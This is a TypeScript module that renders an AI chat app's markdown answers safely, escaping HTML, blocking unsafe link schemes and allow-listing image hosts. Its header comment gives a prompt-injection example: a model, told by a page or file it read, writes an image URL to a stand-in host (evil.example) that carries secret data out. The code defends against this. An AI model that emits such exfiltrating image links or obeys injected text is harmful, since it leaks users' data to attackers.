/**
 * Markdown for model answers, rendered safely: raw HTML in a message is shown as text (never
 * parsed), and links with unsafe schemes (`javascript:`, `vbscript:`, `file:`, non-image `data:`)
 * are not turned into links. Links open in a new tab without access to this page.
 *
 * Images load inline only from this app, `data:` images, and the origins in `imageHosts`
 * (NUXT_PUBLIC_IMAGE_HOSTS). Any other image becomes a link naming its host: a model that was
 * told (by a web page or a file it read) to write `![](https://evil.example/?data=secret)` cannot
 * make the browser send that request. The CSP's `img-src` enforces the same list.
 */
import MarkdownIt from 'markdown-it'
import { tr } from './i18n'

const markdown = new MarkdownIt({ html: false, linkify: true, breaks: true, typographer: false })
// Only text that says it is a link becomes one (https://…, an e-mail address), never "www.…" or
// a bare name: without a scheme, the file names an answer is full of ("todo.md", "app.py") would
// link to sites of those names.
markdown.linkify.set({ fuzzyLink: false })
const { escapeHtml } = markdown.utils

/** Longest formula typeset; a longer one is shown as its source. */
export const MAX_FORMULA_CHARS = 4_000

let mathLoading: Promise<void> | undefined
let mathLoaded = false

/**
 * Whether `text` may hold a formula, as the math rule reads one: a `$$`, or `$…$` on one line that
 * starts with no space and whose closing `$` is not followed by a letter or digit ("$5 and $10" are
 * prices). Each `$` is scanned to the next one at most: linear, no backtracking.
 */
export function mayHoldMath(text: string): boolean {
  return /\$\$|\$[^\s$][^$\n]*\$(?![A-Za-z0-9])/.test(text)
}

/** Whether math is typeset yet (after `loadMath()` resolved); until then a formula shows as its source. */
export function isMathLoaded(): boolean {
  return mathLoaded
}

/**
 * Loads KaTeX (markdown-math.ts, a separate chunk with its stylesheet) and adds math to the
 * renderer; the first call loads it, later ones share that load. Render again when it resolves.
 */
export function loadMath(): Promise<void> {
  // A member call, not a destructured `installMath(…)`: Nuxt's auto-imports would see that name and
  // import the module statically, putting KaTeX back into every page that renders markdown.
  mathLoading ??= import('./markdown-math').then((math) => {
    math.installMath(markdown, MAX_FORMULA_CHARS)
    mathLoaded = true
  }).catch((error: unknown) => {
    mathLoading = undefined
    throw error
  })
  return mathLoading
}

/** What rendering needs to know beyond the text. */
interface RenderEnv {
  imageHosts: readonly string[]
  /** Highlighted HTML for a code block, or undefined to show it plain (code-highlight.ts). */
  highlight?: (code: string, info: string) => string | undefined
}

const LINK_ATTRIBUTES = 'target="_blank" rel="noopener noreferrer nofollow"'

const defaultLinkOpen = markdown.renderer.rules.link_open
  ?? ((tokens, index, options, _env, self) => self.renderToken(tokens, index, options))
markdown.renderer.rules.link_open = (tokens, index, options, env, self) => {
  tokens[index]!.attrSet('target', '_blank')
  tokens[index]!.attrSet('rel', 'noopener noreferrer nofollow')
  // A knowledge base's passage an answer cites ([1](/knowledge/…)): shown as a source marker.
  if (tokens[index]!.attrGet('href')?.startsWith('/knowledge/')) tokens[index]!.attrSet('class', 'citation')
  return defaultLinkOpen(tokens, index, options, env, self)
}

/** The origin of an absolute http(s) URL, else undefined. */
function originOf(src: string): string | undefined {
  try {
    const url = new URL(src)
    return url.protocol === 'https:' || url.protocol === 'http:' ? url.origin : undefined
  } catch {
    return undefined
  }
}

/** Whether an image may load inline: this app's own paths, data: images, allowed hosts. */
export function isImageShownInline(src: string, imageHosts: readonly string[]): boolean {
  if (src.startsWith('/') && !src.startsWith('//')) return true
  if (/^data:image\//i.test(src)) return true
  const origin = originOf(src)
  return origin !== undefined && imageHosts.includes(origin)
}

const defaultImage = markdown.renderer.rules.image!
markdown.renderer.rules.image = (tokens, index, options, env: RenderEnv, self) => {
  const token = tokens[index]!
  const src = token.attrGet('src') ?? ''
  if (isImageShownInline(src, env.imageHosts)) return defaultImage(tokens, index, options, env, self)
  const alt = self.renderInlineAsText(token.children ?? [], options, env) || tr('markdown.image')
  const host = originOf(src) ?? tr('markdown.anotherSite')
  return `<a class="blocked-image" href="${escapeHtml(src)}" ${LINK_ATTRIBUTES} title="${escapeHtml(tr('markdown.blockedTitle'))}">🖼 ${escapeHtml(alt)} <span class="blocked-image-host">${escapeHtml(tr('markdown.blockedHost', { host }))}</span></a>`
}

/**
 * A code block: a bar with its language and a Copy button (MarkdownContent copies the block's text),
 * then the code, highlighted when a highlighter gives HTML for it, else escaped as it is.
 */
markdown.renderer.rules.fence = (tokens, index, _options, env: RenderEnv) => {
  const token = tokens[index]!
  const info = token.info.trim()
  const language = info.split(/\s+/)[0]?.slice(0, 30) ?? ''
  const code = token.content
  const body = env.highlight?.(code, info) ?? `<pre><code${language ? ` class="language-${escapeHtml(language)}"` : ''}>${escapeHtml(code)}</code></pre>`
  return `<div class="code-block"><div class="code-block__bar"><span class="code-block__lang">${escapeHtml(language || 'text')}</span><button type="button" class="code-block__copy" data-copy-code aria-label="${escapeHtml(tr('copy.copyCode'))}">${escapeHtml(tr('copy.copy'))}</button></div>${body}</div>\n`
}

// An indented code block gets the same bar (no language).
markdown.renderer.rules.code_block = (tokens, index, options, env, self) => markdown.renderer.rules.fence!(tokens, index, options, env, self)

/** HTML for a message's markdown (safe to bind with v-html); `highlight` colours code blocks. */
export function renderMarkdown(text: string, imageHosts: readonly string[] = [], highlight?: RenderEnv['highlight']): string {
  const env: RenderEnv = { imageHosts, highlight }
  return markdown.render(text, env)
}

/**
 * `text` as its top-level blocks (a paragraph, a list, a code block, a table, a heading…), each its
 * own source lines, where markdown-it's block parser ends one. Link reference definitions
 * (`[x]: https://…`) are read from the whole text and returned, so a block can use one defined in
 * another. One pass of the block parser: linear in the text.
 */
export function markdownBlocks(text: string): { blocks: string[], references: Record<string, unknown> } {
  // What markdown-it's own first step does to its input.
  const source = text.replace(/\r\n?/g, '\n').replaceAll('\0', '\uFFFD')
  const env: { references?: Record<string, unknown> } = {}
  const tokens: Array<{ level: number, nesting: number, map: [number, number] | null }> = []
  markdown.block.parse(source, markdown, env, tokens as Parameters<typeof markdown.block.parse>[3])
  const lines = source.split('\n')
  const blocks: string[] = []
  for (const token of tokens) {
    if (token.level !== 0 || token.nesting < 0) continue
    // A rule that does not say where its block is: the text is rendered whole.
    if (!token.map) return { blocks: [source], references: env.references ?? {} }
    blocks.push(lines.slice(token.map[0], token.map[1]).join('\n'))
  }
  return { blocks, references: env.references ?? {} }
}

/**
 * A message's markdown as the HTML of each of its top-level blocks (see `markdownBlocks`), for a
 * renderer that keeps what it rendered: `rendered` maps a block's source to its HTML, is read for
 * the blocks seen before and left holding this text's blocks only. While an answer streams, only
 * its last block changes, so only that block is parsed, highlighted and put in the page again,
 * not the whole answer on every delta. Empty `rendered` when what a block renders to changes
 * otherwise (math or a code language loaded).
 */
export function renderMarkdownBlocks(text: string, rendered: Map<string, string>, imageHosts: readonly string[] = [], highlight?: RenderEnv['highlight']): string[] {
  const { blocks, references } = markdownBlocks(text)
  const hasReferences = Object.keys(references).length > 0
  const html = blocks.map((block) => {
    // A block that may use a reference defined elsewhere renders with them (and is not kept).
    if (hasReferences) return markdown.render(block, { imageHosts, highlight, references: { ...references } })
    let known = rendered.get(block)
    if (known === undefined) {
      known = markdown.render(block, { imageHosts, highlight })
      rendered.set(block, known)
    }
    return known
  })
  const current = new Set(blocks)
  for (const block of rendered.keys()) {
    if (!current.has(block)) rendered.delete(block)
  }
  return html
}
